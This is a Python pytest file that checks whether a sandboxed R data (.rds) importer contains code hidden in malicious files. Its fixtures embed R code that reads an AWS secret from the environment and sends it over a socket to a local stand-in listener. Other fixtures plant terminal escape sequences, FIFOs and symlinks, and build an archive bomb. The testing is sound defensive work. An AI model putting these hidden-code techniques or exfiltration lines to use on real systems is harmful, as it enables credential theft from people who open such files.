"""Files that run code when R reads them: it runs, but has nothing to steal, nowhere to go and nothing to spoil."""

import gzip
import socket
import subprocess
import threading
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from random import Random

import pytest

from helpers import hostile_rds as hostile
from helpers.walls import need
from tandem.errors import InputUnusable
from tandem.exchange import sandbox
from tandem.exchange.readers.rds import limits_for, open_rds
from tandem.exchange.sandbox import BUBBLEWRAP, LIMITS_ALONE, NAMESPACES, Limits
from tandem.exchange.workspace import Workspace

SECRET = "s3cr3t-" + uuid.uuid4().hex


class Listener:
    """A server on 127.0.0.1 that keeps what it is sent."""

    def __init__(self) -> None:
        self.heard = b""
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            client, _ = self._server.accept()
            with client, client.makefile("rb") as stream:
                said = b"connected " + stream.read()
            if said.endswith(b"end of test"):
                return
            self.heard += said

    def close(self) -> None:
        """Hear what has come, then nothing more."""
        with socket.create_connection(("127.0.0.1", self.port)) as client:
            client.sendall(b"end of test")
        self._thread.join()
        self._server.close()


class Scene:
    """All that the code in a file goes for: a home, /tmp, a secret in the environment, a server."""

    def __init__(self, folder: Path) -> None:
        self.home = folder / "home"
        self.home.mkdir(mode=0o777)
        self.temporary = Path("/tmp") / f"tandem-test-{uuid.uuid4().hex}"
        self.listener = Listener()
        self.code = f"""
            for (path in c("{self.home}/owned", "{self.temporary}")) try(cat("owned", file = path), TRUE)
            secret <- Sys.getenv("AWS_SECRET_ACCESS_KEY")
            try(cat("[", secret, "]", file = "loot.txt"), TRUE)
            try({{
                wire <- socketConnection("127.0.0.1", {self.listener.port}, open = "wb", blocking = TRUE, timeout = 2)
                writeBin(charToRaw(secret), wire)
                close(wire)
            }}, TRUE)
            list()
        """

    def traces(self) -> set[str]:
        """What the code has done so far."""
        self.listener.close()
        done = {
            "home": (self.home / "owned").exists(),
            "temporary": self.temporary.exists(),
            "network": b"connected" in self.listener.heard,
            "secret": SECRET.encode() in self.listener.heard,
        }
        self.temporary.unlink(missing_ok=True)
        return {name for name, happened in done.items() if happened}


@pytest.fixture
def scene(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    """In an environment with a secret."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    made = Scene(tmp_path)
    yield made
    made.temporary.unlink(missing_ok=True)


def file_of(folder: Path, content: bytes) -> Path:
    """As saveRDS would have left it."""
    path = folder / "object.rds"
    path.write_bytes(gzip.compress(content))
    return path


def active_assays(code: str) -> bytes:
    """A SingleCellExperiment that keeps its assays in an environment, as old ones do."""
    assays = hostile.s4(
        "ShallowSimpleListAssays", "SummarizedExperiment", **{".xData": hostile.active_environment("data", code)}
    )
    table = hostile.s4("DFrame", "S4Vectors", listData=hostile.named_list({}))
    return hostile.s4("SingleCellExperiment", "SingleCellExperiment", assays=assays, colData=table)


#: Where code hides, and what touches it there in an R without walls.
HIDDEN: dict[str, tuple[Callable[[str], bytes], str]] = {
    "the object is a promise": (hostile.promise, "x"),
    "a slot is a promise": (lambda code: hostile.seurat(assays=hostile.promise(code)), "y <- attr(x, 'assays'); y"),
    "an assay is a promise": (
        lambda code: hostile.seurat(assays=hostile.named_list({"RNA": hostile.promise(code)})),
        "y <- attr(x, 'assays')[[1]]; y",
    ),
    "the counts are a promise": (
        lambda code: hostile.seurat({"counts": hostile.promise(code)}),
        "y <- attr(attr(x, 'assays')[[1]], 'counts'); y",
    ),
    "the values of a matrix are a promise": (
        lambda code: hostile.seurat({"counts": hostile.matrix(x=hostile.promise(code))}),
        "y <- attr(attr(attr(x, 'assays')[[1]], 'counts'), 'x'); y",
    ),
    "a column is a promise": (
        lambda code: hostile.seurat(columns={"evil": hostile.promise(code)}),
        "y <- attr(x, 'meta.data')[['evil']]; y",
    ),
    "an environment looks back": (active_assays, "attr(attr(x, 'assays'), '.xData')$data"),
}


@pytest.mark.parametrize("hidden", HIDDEN)
def test_hidden_code_runs_in_plain_r(hidden: str, scene: Scene, tmp_path: Path) -> None:
    make, touch = HIDDEN[hidden]
    path = file_of(tmp_path, hostile.rds(make(scene.code)))
    version = subprocess.run(["Rscript", "-e", "cat(getRversion() < '4.4')"], capture_output=True, check=True).stdout
    if version != b"TRUE" and "promise" in hidden:
        pytest.skip("this R refuses promises")

    subprocess.run(
        ["Rscript", "-e", f"x <- readRDS('{path}'); {touch}"], cwd=tmp_path, capture_output=True, check=False
    )

    assert scene.traces() == {"home", "temporary", "network", "secret"}


def outcome(path: Path, workspace: Path, r_library: Path) -> object:
    """The data set, or why there is none."""
    try:
        return open_rds(path, Workspace(workspace, r_library))
    except InputUnusable as refusal:
        return refusal


@pytest.mark.promise("code in an rds")
@pytest.mark.parametrize("hidden", HIDDEN)
def test_hidden_code_reaches_nothing_when_it_is_imported(
    hidden: str, scene: Scene, tmp_path: Path, r_library: Path
) -> None:
    need(BUBBLEWRAP)
    assert sandbox.best_way(r_library) == BUBBLEWRAP
    make, _ = HIDDEN[hidden]
    path = file_of(tmp_path, hostile.rds(make(scene.code)))
    before = set(tmp_path.iterdir())

    said = str(outcome(path, tmp_path / "work", r_library))

    assert SECRET not in said
    assert scene.traces() == set()
    assert set(tmp_path.iterdir()) - before == {tmp_path / "work"}
    left = [path for path in (tmp_path / "work").rglob("*") if path.is_file()]
    assert not [path for path in left if SECRET.encode() in path.read_bytes()]
    if make is active_assays:  # which every R runs
        assert (tmp_path / "work" / "rds-0" / "loot.txt").read_text() == "[  ]", "the code did not run at all"


@pytest.mark.promise("code in an rds")
@pytest.mark.parametrize("way", [NAMESPACES, LIMITS_ALONE], ids=lambda way: way.by)
def test_with_less_than_bubblewrap_the_secret_stays_here(
    way: sandbox.Confinement, scene: Scene, tmp_path: Path, r_library: Path
) -> None:
    need(way)
    content = hostile.rds(hostile.promise(scene.code))
    (output := tmp_path / "out").mkdir()

    sandbox.run(
        ["Rscript", "-e", "x <- readRDS(file('stdin', 'rb')); x"],
        [content],
        output,
        r_library,
        limits_of(tmp_path),
        way,
    )

    traces = scene.traces()
    assert "secret" not in traces
    assert ("network" in traces) is way.network
    assert "[  ]" in (output / "loot.txt").read_text(), "the code did not run at all"


def limits_of(folder: Path) -> Limits:
    """Plenty."""
    return limits_for(file_of(folder, b""))


@pytest.mark.promise("code in an rds")
def test_what_hidden_code_leaves_behind_is_not_followed(tmp_path: Path, r_library: Path) -> None:
    (tmp_path / "secret").write_text(SECRET)
    code = f"file.symlink('{tmp_path}/secret', 'error.txt'); quit(status = 1)"
    path = file_of(tmp_path, hostile.rds(active_assays(code)))

    with pytest.raises(InputUnusable, match="R ended while it read it") as refusal:
        open_rds(path, Workspace(tmp_path / "work", r_library))

    assert SECRET not in str(refusal.value)


@pytest.mark.promise("code in an rds")
@pytest.mark.parametrize(
    "code",
    [
        "writeLines('\\x1b]0;owned\\x07\\x1b[2J', 'error.txt'); quit()",
        "writeLines('{}', 'parcel.json'); quit()",
        "writeLines(strrep('[', 1e6), 'parcel.json'); quit()",
        "dir.create('parcel.json'); quit()",
        "system('mkfifo parcel.json'); quit()",
        "file.symlink('/dev/zero', 'parcel.json'); quit()",
    ],
    ids=["signs for the terminal", "no parcel", "deep", "a folder", "a pipe", "a link without end"],
)
def test_what_hidden_code_writes_is_refused_in_one_sentence(code: str, tmp_path: Path, r_library: Path) -> None:
    path = file_of(tmp_path, hostile.rds(active_assays(code)))

    with pytest.raises(InputUnusable) as refusal:
        open_rds(path, Workspace(tmp_path / "work", r_library))

    assert str(refusal.value).isprintable()


@pytest.mark.promise("code in an rds")
def test_a_parcel_that_hidden_code_wrote_is_checked(tmp_path: Path, r_library: Path) -> None:
    code = """
        counts <- methods::new(methods::getClass('dgCMatrix', where = asNamespace('Matrix')),
            p = c(0L, 1L), i = 0L, x = -5, Dim = c(1L, 1L))
        tandem:::write_parcel('.', list(counts = counts), 'c', 'g', 'g',
            notes = list(format = 'lie', assay = '', analysed = TRUE, left_out = I(character())))
        quit()
    """
    source = open_rds(file_of(tmp_path, hostile.rds(active_assays(code))), Workspace(tmp_path / "work", r_library))

    assert source.notes == ["It is a lie."]
    with pytest.raises(InputUnusable, match="counts below 1"):
        list(source.blocks())


def nested(levels: int) -> bytes:
    """A list in a list in a list."""
    return (hostile.number(hostile.LIST) + hostile.number(1)) * levels + hostile.NULL


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (hostile.rds(hostile.number(hostile.REALS) + hostile.number(-1) + hostile.number(256) * 2), "memory"),
        (hostile.rds(hostile.number(hostile.REALS) + hostile.number(1000)), "cut short or damaged"),
        (hostile.rds(nested(2_000_000)), "nested too deeply|R ended"),
        (hostile.rds(hostile.number(hostile.LIST) + hostile.number(-7)), "cut short or damaged|memory"),
        (hostile.rds(Random(1).randbytes(2000)), "cut short or damaged"),
        (hostile.rds(hostile.s4("Evil", "nowhere", x=hostile.integers(1))), "an object of class 'Evil'"),
        (hostile.rds(hostile.active_environment("x", "1")), "an object of class 'environment'"),
    ],
    ids=[
        "a length of terabytes",
        "cut short",
        "deep",
        "a negative length",
        "noise",
        "a class of its own",
        "environment",
    ],
)
def test_what_is_no_object_is_refused_in_one_sentence(
    content: bytes, said: str, tmp_path: Path, r_library: Path
) -> None:
    with pytest.raises(InputUnusable, match=said) as refusal:
        open_rds(file_of(tmp_path, content), Workspace(tmp_path / "work", r_library))

    assert str(refusal.value).isprintable()


@pytest.mark.promise("archive bombs")
def test_a_bomb_is_not_unpacked_to_its_end(tmp_path: Path, r_library: Path) -> None:
    member = gzip.compress(bytes(1 << 24))
    path = tmp_path / "bomb.rds"
    head = hostile.rds(hostile.number(hostile.REALS) + hostile.number(1 << 27))
    path.write_bytes(gzip.compress(head) + member * 64)
    limits = Limits(memory=1 << 29, seconds=60, output=1 << 20)

    with pytest.raises(InputUnusable, match="memory"):
        open_rds(path, Workspace(tmp_path / "work", r_library), limits)
